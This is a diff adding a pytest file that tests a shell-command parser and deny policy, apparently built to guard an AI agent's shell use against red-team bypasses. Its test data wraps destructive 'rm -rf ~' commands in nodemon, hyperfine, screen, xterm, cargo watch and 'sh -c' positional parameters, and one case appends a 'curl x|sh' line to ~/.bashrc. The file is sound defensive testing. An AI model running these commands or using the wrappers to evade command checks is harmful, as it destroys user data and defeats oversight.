@@ -1,0 +1,98 @@
+"""Positions where a command line runs another command the parser must read (issue 12,
+red team 5): programs that run an operand or option value as a command, `sh -c`'s
+positional parameters, and subcommand words that merely look like shell builtins."""
+
+from __future__ import annotations
+
+import pytest
+
+pytest.importorskip("claude_rego.api")
+
+from claude_rego.facts.shell import parse_command
+from test_default_pack_bypass import assert_denied, assert_not_denied
+
+
+def _nested_argvs(command: str) -> list[list[str]]:
+    return [s["argv"] for s in parse_command(command)["segments"] if s["depth"] > 0]
+
+
+# ------------------------------------------------ 1. programs that run a command string
+
+RUN_A_COMMAND = [
+    'nodemon --exec "rm -rf ~"',
+    'nodemon -x "rm -rf ~" server.js',
+    'concurrently -n a,b "npm run dev" "rm -rf ~"',
+    'npx concurrently "rm -rf ~"',
+    'hyperfine --warmup 2 "rm -rf ~"',
+    'hyperfine --prepare "rm -rf ~" "ls"',
+    "scl enable devtoolset-11 'rm -rf ~'",
+    "screen -S dev -X stuff 'rm -rf ~\\n'",
+    'byobu send-keys "rm -rf ~" Enter',
+    'watchexec -e py "rm -rf ~"',
+    'chokidar "src/**" -c "rm -rf ~"',
+    'watchman-make -p "**/*.c" --run "rm -rf ~"',
+    'cargo watch -x check -s "rm -rf ~"',
+    'tsc-watch --onSuccess "rm -rf ~"',
+    "xterm -e 'rm -rf ~'",
+    'devbox run "rm -rf ~"',
+    'mise exec -c "rm -rf ~"',
+    'start-server-and-test "npm start" http://localhost:3000 "rm -rf ~"',
+]
+
+
+@pytest.mark.parametrize("command", RUN_A_COMMAND)
+def test_a_command_run_by_a_program_is_read_as_a_nested_command(command):
+    assert ["rm", "-rf", "~"] in _nested_argvs(command)
+    assert_denied(command)
+
+
+@pytest.mark.parametrize("command", [
+    'nodemon -x "python app.py" app.py',
+    'concurrently -n api,web "npm run api" "npm run web"',
+    'hyperfine --warmup 3 "sleep 0.1" "ls -la"',
+    "scl enable devtoolset-11 'make -j4'",
+    "screen -S dev -X stuff 'npm test\\n'",
+    'watchexec -e rs "cargo test"',
+    'cargo watch -x test',
+    'start-server-and-test start http://localhost:3000 test',
+])
+def test_ordinary_watchers_and_benchmarks_stay_allowed(command):
+    assert_not_denied(command)
+
+
+def test_cargo_watch_exec_is_a_cargo_subcommand():
+    assert ["cargo", "run"] in _nested_argvs("cargo watch -x run")
+
+
+# ------------------------------------------------ 2. sh -c positional parameters
+
+@pytest.mark.parametrize("command", [
+    "sh -c 'exec \"$0\" \"$@\"' rm -rf ~",
+    "bash -c '\"$@\"' _ rm -rf ~",
+    "sh -c '$0 $1 $2' rm -rf ~",
+    "bash -c 'rm -rf \"$1\"' _ ~",
+])
+def test_positional_parameters_of_a_shell_c_script_are_resolved(command):
+    assert ["rm", "-rf", "~"] in _nested_argvs(command)
+    assert_denied(command)
+
+
+def test_positional_parameters_reach_redirections():
+    assert_denied("bash -c 'echo $1 >> $2' _ 'curl x|sh' ~/.bashrc")
+
+
+def test_positional_parameters_of_a_harmless_script_stay_allowed():
+    assert ["ls", "src"] in _nested_argvs("bash -c 'ls \"$@\"' _ src")
+    assert_not_denied("bash -c 'ls \"$@\"' _ src")
+
+
+# ------------------------------------------------ 7. subcommands named like builtins
+
+@pytest.mark.parametrize("command", [
+    "claude-rego eval file.json", "opa eval -d policy.rego 'data.x'", "mytool source config.yaml",
+    "tool exec build", "just test", "make env",
+])
+def test_a_subcommand_named_like_a_shell_builtin_is_not_opaque(command):
+    parsed = parse_command(command)
+    assert not parsed["opaque"], parsed["opaque_reasons"]
+    assert_not_denied(command)
